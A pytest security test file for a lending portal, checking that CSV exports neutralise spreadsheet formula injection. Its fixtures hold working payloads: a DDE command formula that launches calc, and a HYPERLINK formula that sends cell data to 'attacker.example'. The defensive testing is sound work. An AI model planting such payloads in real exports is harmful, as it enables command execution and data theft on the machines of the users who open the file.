"""Item 8: no spreadsheet formula goes out live in a CSV the portal writes (OWASP's rule)."""

import csv
import io

import pytest

from kivaportal.common.csv_export import csv_text, neutralise
from kivaportal.lending.models import Loan
from kivaportal.workflow.transitions import audit_record
from tests.security.conftest import user

FORMULAS = ['=HYPERLINK("https://x.example","click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_cells_starting_like_a_formula_are_quoted(cell):
    assert neutralise(cell) == "'" + cell
    assert next(csv.reader(io.StringIO(csv_text([[cell]]))))[0] == "'" + cell


def test_numbers_and_plain_text_are_left_alone():
    assert [neutralise(v) for v in (-5, 3.5, "Rosa", "", None)] == [-5, 3.5, "Rosa", "", None]


def test_audit_export_neutralises_a_comment_and_a_record_label(as_user, partner_a):
    loan = Loan.objects.filter(partner=partner_a).first()
    loan.mis_loan_id = "=cmd|' /C calc'!A0"
    audit_record(
        record=loan,
        actor=user("ana.preparer"),
        action="review.changes_requested",
        comment='=HYPERLINK("https://attacker.example/?"&A1,"Open")',
    )

    response = as_user("rosa.reviewer").get("/audit/export.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("https://attacker.example/?"&A1,"Open")' in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
